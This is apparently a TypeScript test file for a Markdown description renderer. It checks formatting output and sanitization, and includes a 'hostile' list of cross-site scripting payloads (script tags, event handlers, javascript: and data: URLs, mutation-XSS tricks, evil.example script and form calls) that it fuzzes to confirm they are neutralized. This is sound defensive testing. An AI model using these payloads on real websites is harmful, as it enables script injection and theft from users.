import fc from 'fast-check';
import { fromHtml } from 'hast-util-from-html';
import { describe, expect, it } from 'vitest';
import { descriptionHtml, descriptionText, lineHtml } from './description-html.ts';
import { blocks, phrasing } from './descriptions/safe-elements.ts';

describe('descriptionHtml', () => {
  it.each([
    ['a sentence', 'Two\nlines.', '<p>Two\nlines.</p>'],
    [
      'marks',
      'A **b** *c* `d` ~~e~~',
      '<p>A <strong>b</strong> <em>c</em> <code>d</code> <del>e</del></p>',
    ],
    ['code with ticks inside', '`` a`b ``', '<p><code>a`b</code></p>'],
    ['a star that is not emphasis', '2 * 3 * 4', '<p>2 * 3 * 4</p>'],
    ['an underscore that is not emphasis', 'a snake_case_name', '<p>a snake_case_name</p>'],
    ['a line break', 'a  \nb', '<p>a<br>\nb</p>'],
    ['a list', '- a\n- b\n  - c', '<ul><li>a</li><li>b\n<ul><li>c</li></ul>\n</li></ul>'],
    ['a list from 3', '3. a', '<ol start="3"><li>a</li></ol>'],
    [
      'a table',
      '| a | b |\n|---|--:|\n| 1 | x \\| `y` |',
      '<table><thead><tr><th>a</th><th align="right">b</th></tr></thead>' +
        '<tbody><tr><td>1</td><td align="right">x | <code>y</code></td></tr></tbody></table>',
    ],
    [
      'code',
      '```json\n{ "a": "<b>" }\n```',
      '<pre tabindex="0"><code>{ "a": "&lt;b>" }\n</code></pre>',
    ],
    ['code that is not closed', '```\n- b', '<pre tabindex="0"><code>- b\n</code></pre>'],
    ['inline HTML', 'H<sub>2</sub>O<br/>x', '<p>H<sub>2</sub>O<br>x</p>'],
    ['blocks of HTML', '<ul><li>a</li></ul>', '<ul><li>a</li></ul>'],
    [
      'a disclosure with Markdown',
      '<details><summary>S</summary>\n\n**x**\n</details>',
      '<details><summary>S</summary>\n<p><strong>x</strong></p>\n</details>',
    ],
    [
      'a name in angle brackets',
      'Send <id> and <dc:title>',
      '<p>Send &lt;id> and &lt;dc:title></p>',
    ],
    ['entities', 'a &lt;b&gt; &amp; c &copy;', '<p>a &lt;b> &amp; c ©</p>'],
    [
      'a bare address',
      'See https://a.example/b?c&d.',
      '<p>See <a href="https://a.example/b?c&amp;d">https://a.example/b?c&amp;d</a>.</p>',
    ],
    ['a reference', '[a][1]\n\n[1]: https://a.example', '<p><a href="https://a.example">a</a></p>'],
    [
      'a picture elsewhere, as a link',
      '![A cat](https://a.example/c.png)',
      '<p><a href="https://a.example/c.png">A cat</a></p>',
    ],
    [
      'a picture in a link',
      '[![A cat](https://a.example/c.png)](https://b.example)',
      '<p><a href="https://b.example">A cat</a></p>',
    ],
    ['nothing', ' \n ', ''],
  ])('writes %s', (_, text, want) => {
    expect(descriptionHtml(text)).toBe(want);
  });

  it('prefixes its own addresses with the site’s path, and unlinks relative ones', () => {
    const text = '[a](/docs/a) [b](b.html) [c](//evil.example) [d](#d) [e](?op=e) ![f](/f.png)';
    expect(descriptionHtml(text, { basePath: '/dev/' })).toBe(
      '<p><a href="/dev/docs/a">a</a> b c <a href="#d">d</a> <a href="?op=e">e</a> ' +
        '<img src="/dev/f.png" alt="f"></p>',
    );
  });

  it('asks where a link leads, and keeps the words of one that leads nowhere', () => {
    const addressOf = (address: string) => (address === '#a' ? '/b#a' : undefined);
    expect(descriptionHtml('[a](#a) <a href="#c">`c`</a>', { addressOf })).toBe(
      '<p><a href="/b#a">a</a> <code>c</code></p>',
    );
  });

  it.each([
    [2, '# A\n## B\n# C', 'h2 h3 h2'],
    [4, '### A\n# B\n### C', 'h4 h4 h5'],
    [3, '# A\n###### B\n### C', 'h3 h4 h4'],
    [5, '# A\n## B\n### C\n<h1>D</h1>', 'h5 h6 h6 h5'],
  ])('moves headings to level %i and below: %j', (level, text, want) => {
    const html = descriptionHtml(text, { level });
    expect([...html.matchAll(/<(h\d)/g)].map(([, name]) => name).join(' ')).toBe(want);
  });
});

describe('lineHtml', () => {
  it.each([
    ['A **b**', 'A <strong>b</strong>'],
    ['Plain words.', 'Plain words.'],
    ['One\n\n- two\n- `three`', 'One two <code>three</code>'],
    ['# A\n\n<table><tr><td>b</table>', 'A b'],
    ['1 < 2 & 3', '1 &lt; 2 &amp; 3'],
  ])('%j', (text, want) => {
    expect(lineHtml(text)).toBe(want);
  });
});

describe('descriptionText', () => {
  it.each([
    ['See [the **guide**](/docs) for `page`,\nand more.', 'See the guide for page, and more.'],
    ['# A\n\n- b\n- c', 'A b c'],
    ['| a | b |\n|---|---|\n| 1 | 2 |', 'a b 1 2'],
    ['1 < 2 &amp; "3" > 2 <id>', '1 < 2 & "3" > 2 <id>'],
    ['<a href="https://a.example" title="a > b">x</a>y', 'xy'],
    ['`&lt;`', '&lt;'],
  ])('%j', (text, want) => {
    expect(descriptionText(text)).toBe(want);
  });
});

type Node = { type: string; tagName?: string; properties?: object; children?: Node[] };

const attributes = ['href', 'title', 'open', 'src', 'alt', 'width', 'height', 'start'];
const more = ['reversed', 'align', 'colSpan', 'rowSpan', 'tabIndex'];

/** What a browser would make of it, and whether any of that is more than text. */
function faultsIn(html: string): string[] {
  const faults: string[] = [];
  const visit = ({ type, tagName, properties = {}, children = [] }: Node): void => {
    if (!['root', 'text', 'element'].includes(type)) faults.push(type);
    if (tagName !== undefined && ![...phrasing, ...blocks].includes(tagName)) faults.push(tagName);
    for (const [name, value] of Object.entries(properties)) {
      if (![...attributes, ...more].includes(name)) faults.push(`${tagName} ${name}`);
      const isAddress = name === 'href' || name === 'src';
      if (isAddress && !/^(?:https?:\/\/|mailto:|[#?]|\/(?![/\\]))/i.test(String(value))) {
        faults.push(String(value));
      }
      if (name === 'src' && !String(value).startsWith('/')) faults.push(String(value));
    }
    children.forEach(visit);
  };
  visit(fromHtml(html, { fragment: true }) as Node);
  if (/<\/?noscript/i.test(html)) faults.push('noscript');
  return faults;
}

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/track.gif">',
  '<b onmouseover="alert(1)">x</b>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:x)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="x" target=_blank rel=opener ping=https://evil.example>x</a>',
  '![x](javascript:alert(1))',
  '<javascript:alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x"></object><embed src="x">',
  '<form action="https://evil.example"><input name=q><button>x</button></form>',
  '<style>body{display:none}</style><p style="position:fixed">x</p>',
  '<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content=0>',
  '<base href="https://evil.example">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><p><style><!--</style><img src=x onerror=alert(1)>-->',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'x</noscript><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><script>alert(1)</script>',
  '<title></title><img src=x onerror=alert(1)>',
  '<p id="schemas" name="getElementById" class="navbar">x</p>',
  '<img name=querySelector id=location src=/x.png>',
  '<!-- <script>alert(1)</script> -->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php alert(1) ?>',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="https://a.example" title="&quot; onclick=alert(1) x=&quot;">x</a>',
  '`</code><script>alert(1)</script>`',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '```js" onclick="alert(1)\nx\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '<xss-element onclick=alert(1)>x</xss-element>',
  '<portal src=x></portal><frameset onload=alert(1)>',
  '<video><source onerror=alert(1)></video><audio src=x autoplay>',
];

describe('what a hostile author writes', () => {
  it.each(hostile)('%j', (text) => {
    expect(faultsIn(descriptionHtml(text))).toEqual([]);
    expect(faultsIn(lineHtml(text))).toEqual([]);
    expect(faultsIn(descriptionHtml(`before ${text} after`))).toEqual([]);
  });

  it('is recognised as hostile by this test', () => {
    expect(faultsIn('<p onclick="x"><a href="javascript:x">y</a><script></script></p>')).toEqual([
      'p onClick',
      'javascript:x',
      'script',
    ]);
  });

  it('is harmless in every combination', () => {
    const piece = fc.oneof(
      fc.constantFrom(...hostile, '\n', '\n\n', '<', '>', '"', "'", '`', '|', '- ', '<p ', '</'),
      fc.string({ maxLength: 12, unit: 'binary' }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        const text = pieces.join('');
        expect(faultsIn(descriptionHtml(text))).toEqual([]);
        const line = lineHtml(text);
        expect(faultsIn(line)).toEqual([]);
        expect(blocks.filter((name) => line.includes(`<${name}>`))).toEqual([]);
      }),
      { numRuns: 100 },
    );
  });

  it('keeps plain text unchanged', () => {
    const word = fc.stringMatching(/^[a-z]{1,8}$/);
    fc.assert(
      fc.property(fc.array(word, { minLength: 1 }), (words) => {
        const text = words.join(' ');
        expect(descriptionText(text)).toBe(text);
        expect(descriptionHtml(text)).toBe(`<p>${text}</p>`);
      }),
    );
  });
});

it('shows as written what would take too long to parse', () => {
  const text = `${'*a'.repeat(30_000)} **b** <i>\n[c](/c) & "d"\n\n> e`;
  const line = `${'*a'.repeat(30_000)} **b** &lt;i&gt;`;
  expect(descriptionHtml(text)).toBe(`<p>${line}<br>[c](/c) &amp; &quot;d&quot;</p><p>&gt; e</p>`);
  expect(lineHtml(text)).toBe(`${line} [c](/c) &amp; &quot;d&quot; &gt; e`);
  expect(descriptionText('> '.repeat(400))).toBe('> '.repeat(400).trim());
});
